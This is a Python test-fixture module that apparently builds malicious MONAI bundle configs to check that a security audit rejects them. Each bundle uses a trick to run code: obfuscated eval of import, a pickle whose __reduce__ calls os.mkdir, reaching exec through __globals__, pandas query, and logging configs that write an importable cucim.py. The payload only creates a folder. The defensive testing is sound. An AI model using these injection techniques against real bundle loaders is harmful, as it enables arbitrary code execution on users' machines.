"""Bundles that run code although an audit of single values would pass: each creates the folder `marked` where it runs.

No single value in them is harmful. The harm comes from how MONAI finds values by their ids, from what one config sets
in another, from a file that one step writes and the next one reads, or from a harmless class that receives something
it was not made for.
"""

from __future__ import annotations

import io
import json
import os
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

import numpy as np

MARKED = "marked"
TRAIN = "configs/train.json"
OVERLAY = "configs/overlay.json"


class MakesFolder:
    """Its pickle creates the folder when it is loaded."""

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return os.mkdir, (MARKED,)


def _pickled_array() -> bytes:
    stream = io.BytesIO()
    np.save(stream, np.array([MakesFolder()], dtype=object), allow_pickle=True)
    return stream.getvalue()


@dataclass(frozen=True)
class Attack:
    """A bundle, and the reason for which the audit must refuse it.

    Attributes:
        name: Its id in pytest.
        files: Content by path; dictionaries are configs.
        why: Part of the reason.
        configs: Configs that are merged and run, in this order.
        works: Whether MONAI creates the folder from it with the installed packages.
    """

    name: str
    files: Mapping[str, Any]
    why: str
    configs: tuple[str, ...] = (TRAIN,)
    works: bool = True

    def content(self, path: str) -> bytes:
        """The content of a file."""
        content = self.files[path]
        if isinstance(content, bytes):
            return content
        return (content if isinstance(content, str) else json.dumps(content)).encode()


def _attack(
    name: str, why: str, config: dict[str, Any], files: Mapping[str, Any] | None = None, *, works: bool = True
) -> Attack:
    """A bundle with one config, whose item `x` does the harm."""
    return Attack(name, {TRAIN: {**config, "run": ["$@x"]}, **(files or {})}, why, works=works)


def _merged(name: str, why: str, config: dict[str, Any], overlay: dict[str, Any]) -> Attack:
    """A bundle with two configs that are merged."""
    return Attack(name, {TRAIN: {**config, "run": ["$@x"]}, OVERLAY: overlay}, why, (TRAIN, OVERLAY))


_MAKE = f"mkdir('{MARKED}')"
# MONAI fails on expressions with the word "import" in them.
_CODE = f"eval('__imp' + 'ort__')('os').{_MAKE}"
_LINE = f"0, %(process)d, {_CODE}"  # logging asks for a field
# A method that is on no usual list of dangerous names; it finds mkdir through PATH.
_SPAWN = f"posix_spawnp('mkdir', ['mkdir', '{MARKED}'], {{}})"
_MODULES = "imported modules"
# The two halves of `os.mkdir`: no string of the config looks like a name.
_NAME = "'os.' + 'mkdir'"

IDS = [
    Attack(
        "an import in the metadata",
        {
            "configs/metadata.json": {"m": "$import os"},
            TRAIN: {"x": f"$@_meta_::m.{_SPAWN}", "run": ["$@x"]},
        },
        "metadata",
    ),
    _merged(
        "an index that an overlay shifts",
        _MODULES,
        {"a": [1], "x": f"$@a::1::0.{_SPAWN}"},
        {"+a": [["$import os"]]},
    ),
    _attack("an index with two digits", _MODULES, {"a": [["$import os"]], "m": "%a::00::0", "x": f"$@m.{_SPAWN}"}),
    _attack("an index from the end", _MODULES, {"a": [["$import os"]], "m": "%a::-1::0", "x": f"$@m.{_SPAWN}"}),
    _attack("an id with blanks", _MODULES, {"a": [["$import os"]], "m": "% a :: 0 ::0", "x": f"$@m.{_SPAWN}"}),
    _attack(
        "a name that MONAI replaces",
        _MODULES,
        {"optional_packages_version": ["$import os"], "x": f"$@required_packages_version::0.{_SPAWN}"},
    ),
    _merged(
        "a name that MONAI replaces after a merge",
        _MODULES,
        {"optional_packages_version": [1], "x": f"$@required_packages_version::0::0.{_SPAWN}"},
        {"optional_packages_version#0": ["$import os"]},
    ),
    _attack("a key that begins as an id", "id of something else", {"#m": ["$import os"], "x": f"$@m::0.{_SPAWN}"}),
    _attack(
        "a key that extends twice",
        "extends twice",
        {"++m": ["$import os"], "n": "%+m::0", "x": f"$@n.{_SPAWN}"},
    ),
    _attack(
        "a relative id that a macro carries to an import",
        _MODULES,
        {
            "c": {"d": {"i": [["$import os"]], "e": "%b::q"}},
            "b": {"q": {"x": f"$@##i#0#0.{_SPAWN}"}, "i": [1]},
            "x": "@c::d::e::x",
        },
    ),
    _attack(
        "an id that another key has, too",
        "id of something else",
        {
            "p": {
                "a::reader": f"${_NAME}",
                "a": {"_target_": "LoadImage", "reader": "$monai.data.ITKReader", "path": MARKED},
            },
            "x": "@p::a",
        },
    ),
]

MERGES = [
    _merged(
        "a mode that comes later",
        "called later",
        {"l": {"_target_": "LoadImage"}, "x": f"$@l({_NAME}, path='{MARKED}')"},
        {"l#_mode_": "callable"},
    ),
    Attack(
        "a mode that comes with the metadata",
        {
            TRAIN: {"l": {"_target_": "LoadImage"}, "x": f"$@l({_NAME}, path='{MARKED}')", "run": ["$@x"]},
            "a/configs/metadata.json": {"l#_mode_": "callable"},
        },
        "called later",
        (TRAIN, "a/configs/metadata.json"),
    ),
    _merged(
        "a target that comes later",
        "not one of the readers",
        {"x": {"image_files": [], "reader": f"${_NAME}", "path": MARKED}},
        {"x#_target_": "ImageDataset"},
    ),
    _merged(
        "an argument that comes later",
        "not one of the readers",
        {"h": [1, {"_target_": "ImageDataset", "image_files": []}], "n": f"${_NAME}", "x": "@h::0"},
        {"h#-1#reader": "@n", "h#1#path": MARKED, "x": "@h::1"},
    ),
    _merged(
        "an argument that is added later",
        "not one of the readers",
        {"x": {"_target_": "ImageDataset", "image_files": []}, "n": f"${_NAME}"},
        {"+x": {"reader": "@n", "path": MARKED}},
    ),
]

_KEYS = "'__globals__'"
_BUILTINS = f"['__builtins__']['exec'](\"{_CODE}\")"

OBJECTS = [
    _attack(
        "a reader by its position",
        "ImageDataset: its arguments decide",
        {
            "x": "$monai.data.ImageDataset([], None, None, None, None, None, True, False, 'f', "
            f"{_NAME}, path='{MARKED}')"
        },
    ),
    _attack(
        "a computed reader",
        "not one of the readers",
        {"x": {"_target_": "ImageDataset", "image_files": [], "reader": f"${_NAME}", "path": MARKED}},
    ),
    _attack(
        "an attribute through an engine",
        "Workflow is not on the allow-list",
        {
            "s": "$torch.nn.ParameterDict({'state': monai.data.decollate_batch})",
            "x": f"$monai.engines.Workflow.get_stats(@s, {_KEYS})[{_KEYS}]{_BUILTINS}",
        },
    ),
    _attack(
        "an attribute through a detector",
        "attributes of a class or function are not on the allow-list",
        {
            "imports": ["$from monai.apps.detection.networks.retinanet_detector import RetinaNetDetector as R"],
            "s": "$torch.nn.ParameterDict({'network': monai.data.decollate_batch})",
            "x": f"$R.get_attribute_from_network(@s, {_KEYS}){_BUILTINS}",
        },
    ),
    _attack(
        "a data frame that runs text",
        "CSVIterableDataset is not on the allow-list",
        {
            "frame": "$next(monai.data.CSVIterableDataset('docs/a.csv').reset()[0])",
            "x": f"$@frame.query(chr(64) + 'torch.os.mkdir(\"{MARKED}\")', engine='python')",
        },
        {"docs/a.csv": "a\n1\n"},
    ),
    _attack(
        "a reader with a made-up self",
        "attributes of a class or function are not on the allow-list",
        {
            "s": "$torch.nn.ParameterDict([('allow_' + 'pickle', True), ('kwargs', {}), ('npz_keys', None)])",
            "x": "$monai.data.NumpyReader.read(@s, 'docs/a.txt')",
        },
        {"docs/a.txt": _pickled_array()},
    ),
    _attack(
        "a loader in the name of a builtin",
        "type",
        {"i": "$from torch import load as type", "x": "$type('docs/a.txt', weights_only=False).__name__"},
        works=False,
    ),
    Attack(
        "the running config, rewritten",
        {
            TRAIN: {
                "imports": ["$import fetal_monai"],
                "x": "$fetal_monai.bundle.running_config()['l'].update({'path': 'a'})",
                "y": "$fetal_monai.workflow.running.running_parser().update({})",
            }
        },
        "not on the allow-list",
        works=False,
    ),
    _attack(
        "a compiler of the bundle's choice",
        "compile_kwargs",
        {"x": {"_target_": "SupervisedTrainer", "compile": True, "compile_kwargs": {"options": {"cpp.cxx": ["a"]}}}},
        works=False,
    ),
]


_LOGGING = """\
[loggers]
keys=root,monai
[handlers]
keys=file
[formatters]
keys=plain
[logger_root]
level=INFO
handlers=
[logger_monai]
level=INFO
handlers=file
qualname=monai.bundle.workflows
[handler_file]
class=FileHandler
formatter=plain
args=('{file}', 'w')
[formatter_plain]
format={line}
"""
# MONAI's transform imports cucim when it is created: from the working directory, if that contains such a module.
_IMPORTS_CUCIM = {"_target_": "CuCIM", "name": "x"}
_WRITTEN = json.dumps({"y": "%(process)d", "x": f"${_CODE}", "run": ["$@x"]})

WRITES = [
    Attack(
        "a log that is the config",
        {"configs/logging.conf": _LOGGING.format(file=TRAIN, line=_WRITTEN), TRAIN: {"run": ["$1"]}},
        "read as code or configs",
    ),
    Attack(
        "a log that a macro reads",
        {
            "configs/logging.conf": _LOGGING.format(file="configs/other.json", line=_WRITTEN),
            "configs/other.json": {"x": 1},
            TRAIN: {"x": "%configs/other.json::x", "run": ["$@x"]},
        },
        "read as code or configs",
    ),
    Attack(
        "a log that is a module",
        {
            "configs/logging.conf": _LOGGING.format(file="cucim.py", line=_LINE),
            TRAIN: {"x": _IMPORTS_CUCIM, "run": ["$@x"]},
        },
        "ends with .log",
    ),
    _attack(
        "a table that is a module",
        "ends with .csv",
        {
            "t": {"_target_": "SaveClassificationd", "keys": "p", "output_dir": ".", "filename": "cucim.py"},
            "y": f"$@t({{'p': torch.zeros(1), 'p_meta_dict': {{'filename_or_obj': \"{_CODE}\"}}}})",
            "x": {**_IMPORTS_CUCIM, "_requires_": "@y"},
        },
    ),
    _attack(
        "a saver that writes a module",
        "ends with .csv",
        {
            "s": {"_target_": "CSVSaver", "output_dir": ".", "filename": "cucim.py"},
            "t": {"_target_": "SaveClassificationd", "keys": "p", "saver": "@s"},
            "y": f"$@t({{'p': torch.zeros(1), 'p_meta_dict': {{'filename_or_obj': \"{_CODE}\"}}}})",
            "x": {**_IMPORTS_CUCIM, "_requires_": "@y"},
        },
    ),
    _attack(
        "a saver that an engine finishes",
        "ends with .log",
        {
            "h": {"_target_": "LogfileHandler", "output_dir": ".", "filename": "cucim.py", "formatter": _LINE},
            "e": {
                "_target_": "SupervisedEvaluator",
                "device": "$torch.device('cpu')",
                "val_data_loader": "$[{'image': torch.zeros(1, 1), 'label': torch.zeros(1, 1)}]",
                "network": {"_target_": "torch.nn.Identity"},
                "val_handlers": ["@h"],
            },
            "y": "$@e.run()",
            "x": {**_IMPORTS_CUCIM, "_requires_": "@y"},
        },
    ),
    _attack(
        "a list of files that is the config",
        "WriteFileMapping is not on the allow-list",
        {"x": {"_target_": "WriteFileMapping", "mapping_file_path": TRAIN}},
        works=False,
    ),
]

# Python is started in the bundle's folder, and torch calls the entry points of its group when it is imported.
ENTRY_POINTS = Attack(
    "an entry point",
    {"x.dist-info/entry_points.txt": "[torch.backends]\na = tempfile:mkdtemp\n", TRAIN: {"x": 1, "run": ["$@x"]}},
    "entry points",
)

ATTACKS = [*IDS, *MERGES, *OBJECTS, *WRITES, ENTRY_POINTS]
